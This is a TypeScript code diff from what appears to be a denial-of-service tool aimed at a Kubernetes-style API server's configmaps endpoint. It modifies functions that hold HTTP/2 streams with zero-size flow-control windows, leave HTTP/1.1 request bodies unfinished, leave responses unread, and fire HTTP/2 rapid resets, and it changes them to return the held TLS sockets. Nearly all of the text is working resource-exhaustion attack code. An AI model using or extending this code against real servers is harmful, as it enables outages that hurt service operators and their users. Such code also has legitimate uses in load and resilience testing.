@@ -27,8 +27,11 @@ const configMaps = '/api/v1/namespaces/default/configmaps';
 /** SETTINGS_INITIAL_WINDOW_SIZE. */
 const windowSetting = 4;
 
-/** Starts it; the promise resolves when everything stands. What goes on then ends with the process. */
-export async function startAttack(attack: Attack): Promise<void> {
+/**
+ * Starts it; the promise resolves when everything stands, with the connections that are held. What goes on then ends
+ * with the process.
+ */
+export async function startAttack(attack: Attack): Promise<readonly TLSSocket[]> {
   const asked = (method: 'GET' | 'POST', path: string): AskedFor => ({ method, path, token: attack.token });
   switch (attack.name) {
     case 'window-0 streams':
@@ -40,37 +43,45 @@ export async function startAttack(attack: Attack): Promise<void> {
     case 'unfinished bodies':
       return holdBodies(attack, asked('POST', configMaps));
     case 'rapid resets':
-      return void resetWithoutEnd(attack, asked('GET', configMaps));
+      void resetWithoutEnd(attack, asked('GET', configMaps));
+      return [];
   }
 }
 
 /** Answers that are never read: windows that are never opened again, sockets that are not read. */
-async function holdAnswers(attack: Attack, asked: AskedFor): Promise<void> {
-  await holdStreams(attack, 65_535, asked, true);
+async function holdAnswers(attack: Attack, asked: AskedFor): Promise<readonly TLSSocket[]> {
+  const sockets = await holdStreams(attack, 65_535, asked, true);
   for (let held = 0; held < attack.count * http1Part; held++) {
     const socket = await openRaw(attack.url, 'http/1.1');
     socket.pause();
     socket.write(http1Head(asked));
+    sockets.push(socket);
   }
+  return sockets;
 }
 
-async function holdBodies(attack: Attack, asked: AskedFor): Promise<void> {
-  await holdStreams(attack, 65_535, asked, false);
+async function holdBodies(attack: Attack, asked: AskedFor): Promise<readonly TLSSocket[]> {
+  const sockets = await holdStreams(attack, 65_535, asked, false);
   for (let held = 0; held < attack.count * http1Part; held++) {
     const socket = await openRaw(attack.url, 'http/1.1');
     socket.resume();
     socket.write(`${http1Head(asked, 100_000)}{`);
+    sockets.push(socket);
   }
+  return sockets;
 }
 
-async function holdStreams(attack: Attack, window: number, asked: AskedFor, ends: boolean): Promise<void> {
+async function holdStreams(attack: Attack, window: number, asked: AskedFor, ends: boolean): Promise<TLSSocket[]> {
+  const sockets: TLSSocket[] = [];
   for (let held = 0; held < attack.count; held += streamsEach) {
     const socket = await openHttp2(attack.url, window);
     for (let stream = 1; stream < 2 * streamsEach; stream += 2) {
       socket.write(headersFrame(stream, asked, ends));
       if (!ends) socket.write(frame(0, 0, stream, Buffer.from('{"metadata":')));
     }
+    sockets.push(socket);
   }
+  return sockets;
 }
 
 /** Opens streams and resets them at once, on a new connection when the server has had enough of one. */
